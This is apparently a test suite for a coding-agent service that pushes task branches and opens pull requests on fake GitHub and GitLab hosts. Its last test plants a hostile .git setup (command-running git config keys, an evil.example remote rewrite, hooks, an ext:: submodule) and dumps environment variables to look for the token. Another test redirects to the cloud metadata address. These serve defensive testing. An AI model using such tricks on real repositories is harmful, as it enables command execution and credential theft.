import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { WorkspacesService } from '../../src/access/workspaces/workspaces.service.js';
import { bootWorker, useService } from '../harness/app.js';
import { makeMember, type Member } from '../harness/client.js';
import type { CodeHost } from '../harness/code-hosts/code-host.js';
import { FakeGitHub } from '../harness/code-hosts/github.js';
import { FakeGitLab } from '../harness/code-hosts/gitlab.js';
import { ModelServer } from '../harness/model-server.js';
import { git } from '../harness/repositories.js';
import { call, createTask, finishedLater, readMessages, readResults, script, type TaskBody } from '../harness/tasks.js';
import { SLOW, sizedIt, slowIt } from '../harness/slow.js';

type Body = TaskBody & {
  repository: { commit: string; push: { branch: string; url: string | null } | null } | null;
  pullRequest: { url: string } | null;
};
type Steps = Parameters<typeof script>;

const TOKENS = { github: 'a-token-for-github-0001', gitlab: 'a-token-for-gitlab-0002' };
const bash = (command: string) => call('bash', { command });
const DONE = { text: 'Done.' };
const edit = (text: string) => bash(`cd repo && echo ${text} >> a.txt`);

describe('A branch and a pull request of a task (reference §15)', () => {
  const folder = mkdtempSync(join(tmpdir(), 'push-'));
  let model: ModelServer;
  let github: CodeHost;
  let gitlab: CodeHost;
  let member: Member;
  let branches = 0;

  const service = useService(async () => {
    model = await ModelServer.start();
    github = await FakeGitHub.start(TOKENS.github);
    gitlab = await FakeGitLab.start(TOKENS.gitlab);
    const repositories = { ...github.entry('GITHUB', 'pushers'), ...gitlab.entry('GITLAB', 'pushers') };
    const config = { repositories, repositoryNetworks: ['127.0.0.1/32'], transparency: { files: true } };
    writeFileSync(join(folder, 'config.json'), JSON.stringify(config));
    return bootWorker({
      env: {
        OPENAI_COMPATIBLE_URL: model.url,
        CONFIG_FILE: join(folder, 'config.json'),
        GITHUB: TOKENS.github,
        GITLAB: TOKENS.gitlab,
      },
    });
  });
  beforeAll(async () => {
    const workspace = await service.app
      .get(WorkspacesService)
      .create({ name: 'Pushers', slug: 'pushers', plan: 'paid' });
    member = await makeMember(service, { workspace });
    for (const host of [github, gitlab]) host.make('acme/api', { 'a.txt': 'one\n', 'gone.txt': 'x\n' });
  });
  afterEach(() => {
    for (const host of [github, gitlab]) host.before = () => false;
  });
  afterAll(async () => {
    await model.stop();
    await github.stop();
    await gitlab.stop();
    rmSync(folder, { recursive: true });
  });

  const bare = (host: CodeHost) => join(host.folder.path, 'acme/api.git');
  const tip = (host: CodeHost, branch: string) =>
    git(bare(host), 'for-each-ref', '--format=%(objectname)', `refs/heads/${branch}`);
  const newBranch = () => `millwright/change-${++branches}`;
  const start = async (host: CodeHost, steps: Steps, push: Record<string, unknown>) => {
    const repository = { url: host.url(), push };
    return createTask(member.client, { content: script(...steps), title: 'Mend it', repository });
  };
  const run = async (host: CodeHost, steps: Steps, push: Record<string, unknown>) =>
    (await finishedLater(member.client, (await start(host, steps, push)).id)) as Body;
  const goOn = async ({ id }: TaskBody, ...steps: Steps) => {
    expect((await member.client.post(`/v1/tasks/${id}/messages`, { content: script(...steps) })).status).toBe(202);
    return (await finishedLater(member.client, id)) as Body;
  };
  const failures = async ({ id }: TaskBody) =>
    (await readMessages(member.client, id))
      .flatMap(({ parts }) => parts)
      .filter(({ type, name }) => type === 'data' && name === 'repository_push')
      .map(({ data }) => data as { branch: string; state: string; code: string; message: string });
  const codes = async (task: TaskBody) => (await failures(task)).map(({ code }) => code);

  sizedIt.each(SLOW ? (['github', 'gitlab'] as const) : (['gitlab'] as const))(
    '%s: a completed turn pushes one commit and opens a pull request, a later one adds to the branch',
    async (kind) => {
      const host = kind === 'github' ? github : gitlab;
      const branch = newBranch();
      const opened = host.pullRequests.length;
      const work =
        "cd repo && sed -i 's/one/1/' a.txt && rm gone.txt && printf '\\001\\000' > bin.dat && ln -s a.txt link && printf x > run.sh && chmod +x run.sh";
      const task = await run(host, [bash(work), DONE], { branch, pullRequest: { draft: true } });
      const web = `https://${host.name}/acme/api`;
      const [tree, pull] = kind === 'github' ? ['tree', 'pull'] : ['-/tree', '-/merge_requests'];
      const number = opened + 1;
      expect(await failures(task)).toEqual([]);
      expect(task.repository?.push).toEqual({ branch, url: `${web}/${tree}/${branch}` });
      expect(task.pullRequest?.url).toBe(`${web}/${pull}/${number}`);
      const log = () => git(bare(host), 'log', '--format=%an <%ae> %cn %s', `main..${branch}`).split('\n');
      const by = 'Millwright <millwright@localhost> Millwright Mend it';
      expect(log()).toEqual([by]);
      expect(git(bare(host), 'rev-parse', `${branch}^`)).toBe(task.repository?.commit);
      expect(
        git(bare(host), 'diff', '--raw', '--no-renames', 'main', branch)
          .replace(/ \w{7} \w{7}/g, '')
          .split('\n'),
      ).toEqual([
        ...[':100644 100644 M\ta.txt', ':000000 100644 A\tbin.dat', ':100644 000000 D\tgone.txt'],
        ...[':000000 120000 A\tlink', ':000000 100755 A\trun.sh'],
      ]);
      expect(host.pullRequests.slice(opened)).toEqual([
        {
          ...{ path: 'acme/api', number, branch, base: 'main', title: 'Mend it', draft: true, state: 'open' },
          body: `Made by Millwright, task \`${task.id}\`.`,
        },
      ]);

      // Later turns ask the API nothing: one kind of host is enough.
      if (kind === 'gitlab') return;
      // The branch that it began at has gone on meanwhile.
      git(
        bare(host),
        'update-ref',
        'refs/heads/main',
        git(bare(host), 'commit-tree', '-p', 'main', '-m', 'On', 'main^{tree}'),
      );
      const first = tip(host, branch);
      const later = await goOn(task, bash('cd repo && git checkout -q HEAD -- gone.txt && echo two >> a.txt'), DONE);
      expect([later.repository?.push, later.pullRequest?.url]).toEqual([task.repository?.push, task.pullRequest?.url]);
      expect(log()).toEqual([by, by]);
      expect(git(bare(host), 'rev-parse', `${branch}^`)).toBe(first);
      expect(git(bare(host), 'show', `${branch}:a.txt`)).toBe('1\ntwo');
      // What is taken back goes back in the branch too; what changes nothing pushes nothing.
      const second = tip(host, branch);
      expect((await goOn(later, bash('true'), DONE)).status).toBe('completed');
      expect(tip(host, branch)).toBe(second);
      await goOn(later, bash('cd repo && git checkout -q . && git clean -fdq'), DONE);
      expect(git(bare(host), 'diff', '--name-only', `${task.repository?.commit}`, branch)).toBe('');
      expect(host.pullRequests).toHaveLength(number);
      expect(await failures(later)).toEqual([]);
      expect(git(bare(host), 'fsck', '--no-dangling')).toBe('');
    },
    180_000,
  );

  slowIt('a pull request has what it was given, and one that is open for the branch is taken', async () => {
    const [branch, taken] = [newBranch(), newBranch()];
    git(bare(github), 'branch', 'next', 'main');
    const given = { title: 'A title of its own', base: 'next' };
    await run(github, [edit('x'), DONE], { branch, pullRequest: given });
    expect(github.pullRequests.at(-1)).toMatchObject({ branch, ...given, draft: false });
    expect(git(bare(github), 'log', '-1', '--format=%s', branch)).toBe(given.title);
    const by = { path: 'acme/api', title: 'By hand', body: '', draft: false, state: 'open' as const };
    const people = { number: 77, branch: taken, base: 'main', ...by };
    github.pullRequests.push(people);
    const task = await run(github, [edit('x'), DONE], { branch: taken, pullRequest: {} });
    expect(task.pullRequest?.url).toMatch(/\/pull\/77$/);
    expect(github.pullRequests.at(-1)).toBe(people);
  });

  slowIt('without a change, and after a turn that failed, nothing is pushed', async () => {
    const branch = newBranch();
    // The state of pull requests of other tasks is asked meanwhile (pull-request-job.ts).
    const ofPushes = () => github.apiRequests.filter((one) => !/^GET .*\/pulls\/\d+(\?|$)/.test(one)).length;
    const calls = ofPushes();
    const [same, failed] = await Promise.all([
      run(github, [bash('ls repo'), DONE], { branch, pullRequest: {} }),
      createTask(member.client, {
        content: script(edit('x'), edit('y'), DONE),
        budget: { maxSteps: 1 },
        repository: { url: github.url(), push: { branch } },
      }).then(({ id }) => finishedLater(member.client, id) as Promise<Body>),
    ]);
    expect([same.status, failed.status]).toEqual(['completed', 'failed']);
    for (const task of [same, failed]) {
      expect([task.repository?.push, task.pullRequest]).toEqual([{ branch, url: null }, null]);
      expect(await failures(task)).toEqual([]);
    }
    expect([tip(github, branch), ofPushes()]).toEqual(['', calls]);
  });

  slowIt('a branch that has a commit of somebody else is told of and left as it is', async () => {
    const [there, shared] = [newBranch(), newBranch()];
    git(bare(github), 'branch', there, 'main');
    const before = tip(github, there);
    const refused = await run(github, [edit('x'), DONE], { branch: there, pullRequest: {} });
    expect(refused).toMatchObject({ status: 'completed', repository: { push: { url: null } }, pullRequest: null });
    expect(await failures(refused)).toEqual([
      {
        branch: there,
        state: 'failed',
        code: 'branch_moved',
        message: `The branch ${there} has a commit that this task did not make; it is left as it is.`,
      },
    ]);
    expect(tip(github, there)).toBe(before);
    const task = await run(github, [edit('x'), DONE], { branch: shared });
    const theirs = git(bare(github), 'commit-tree', '-p', shared, '-m', 'A repair', `${shared}^{tree}`);
    git(bare(github), 'update-ref', `refs/heads/${shared}`, theirs);
    const later = await goOn(task, edit('y'), DONE);
    expect([later.status, await codes(later), tip(github, shared)]).toEqual(['completed', ['branch_moved'], theirs]);
    // Between the look and the push, too.
    const raced = newBranch();
    let moved = '';
    github.before = ({ url = '' }) => {
      if (url.includes('service=git-receive-pack') && moved === '') {
        moved = git(bare(github), 'commit-tree', '-p', 'main', '-m', 'Faster', 'main^{tree}');
        git(bare(github), 'update-ref', `refs/heads/${raced}`, moved);
      }
      return false;
    };
    const late = await run(github, [edit('x'), DONE], { branch: raced });
    expect([await codes(late), tip(github, raced)]).toEqual([['branch_moved'], moved]);
  });

  slowIt('what the host refuses is told in its words, and a further turn tries again', async () => {
    const [branch, second, third] = [newBranch(), newBranch(), newBranch()];
    const hook = join(bare(github), 'hooks/pre-receive');
    mkdirSync(join(hook, '..'), { recursive: true });
    writeFileSync(hook, `#!/bin/sh\nwhile read -r old new name; do case "$name" in */${branch}) exit 1;; esac; done\n`);
    chmodSync(hook, 0o755);
    const protectedOne = await run(github, [edit('x'), DONE], { branch, pullRequest: {} });
    expect(await failures(protectedOne)).toMatchObject([
      { code: 'push_refused', message: `The host refused the branch ${branch}: pre-receive hook declined.` },
    ]);
    rmSync(hook);
    const allowed = await goOn(protectedOne, DONE);
    expect([allowed.repository?.push?.url, allowed.pullRequest?.url]).toEqual([expect.any(String), expect.any(String)]);

    github.before = ({ method, url = '' }, response) => {
      if (method !== 'POST' || !url.endsWith('/pulls')) return false;
      response.writeHead(403, { 'content-type': 'application/json' });
      response.end(JSON.stringify({ message: 'Resource not accessible by personal access token' }));
      return true;
    };
    const unopened = await run(github, [edit('x'), DONE], { branch: second, pullRequest: {} });
    expect([unopened.status, unopened.repository?.push?.url, unopened.pullRequest]).toEqual([
      'completed',
      expect.any(String),
      null,
    ]);
    expect(await failures(unopened)).toMatchObject([
      {
        code: 'pull_request_refused',
        message: 'The host refused the pull request (403): Resource not accessible by personal access token',
      },
    ]);
    github.before = () => false;
    expect((await goOn(unopened, DONE)).pullRequest?.url).toEqual(expect.any(String));

    gitlab.before = ({ headers }, response) => {
      if (!('private-token' in headers)) return false;
      response.writeHead(302, { location: 'http://169.254.169.254/' }).end();
      return true;
    };
    expect(await codes(await run(gitlab, [edit('x'), DONE], { branch: third, pullRequest: {} }))).toEqual([
      'pull_request_failed',
    ]);
    gitlab.before = ({ url = '' }, response) =>
      url.includes('service=git-receive-pack') && response.writeHead(503).end() === response;
    expect(await codes(await run(gitlab, [edit('x'), DONE], { branch: newBranch() }))).toEqual(['push_failed']);
  });

  slowIt('the token is in no row, file and command of a task, and a hostile .git gains nothing', async () => {
    const branch = newBranch();
    const evil = `cd repo && echo more >> a.txt && for name in core.fsmonitor diff.external core.hooksPath filter.x.clean core.sshCommand \\
      credential.helper core.askPass gpg.program; do git config $name 'touch /workdir/ran; cat'; done
      git config remote.pushDefault evil && git config url.https://evil.example/.insteadOf https://127.0.0.1/ && git config http.proxy http://127.0.0.1:9
      for hook in pre-push pre-commit reference-transaction; do printf '#!/bin/sh\\ntouch /workdir/ran\\n' > .git/hooks/$hook; chmod +x .git/hooks/$hook; done 2>/dev/null
      mkdir -p .git/hooks; printf '* filter=x diff=x\\n' | tee .gitattributes > .git/info/attributes
      printf '[submodule "s"]\\n\\tpath = s\\n\\turl = ext::touch ran\\n' > .gitmodules; rm -rf .git/refs; env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; true`;
    const task = await run(github, [bash(evil), bash('ls /workdir/ran; ls -A'), DONE], { branch, pullRequest: {} });
    expect(await failures(task)).toEqual([]);
    expect(git(bare(github), 'diff', '--name-only', 'main', branch).split('\n')).toEqual([
      '.gitattributes',
      '.gitmodules',
      'a.txt',
    ]);
    const printed = JSON.stringify([
      await readResults(member.client, task.id),
      await readMessages(member.client, task.id),
    ]);
    const secrets = [TOKENS.github, Buffer.from(`x-access-token:${TOKENS.github}`).toString('base64')];
    for (const secret of secrets) expect(printed).not.toContain(secret);
    const tables = await service.db.query<{ name: string }>(
      `SELECT quote_ident(table_name) AS name FROM information_schema.tables WHERE table_schema = 'public' AND table_type = 'BASE TABLE'`,
    );
    for (const { name } of tables) {
      const [row] = await service.db.query<{ n: number }>(
        `SELECT count(*)::int AS n FROM ${name} t WHERE ${secrets.map((one) => `t::text LIKE '%${one}%'`).join(' OR ')}`,
      );
      expect([name, row?.n]).toEqual([name, 0]);
    }
    expect(git(bare(github), 'log', '-1', '--format=%B', branch)).not.toContain(TOKENS.github);
  });
});
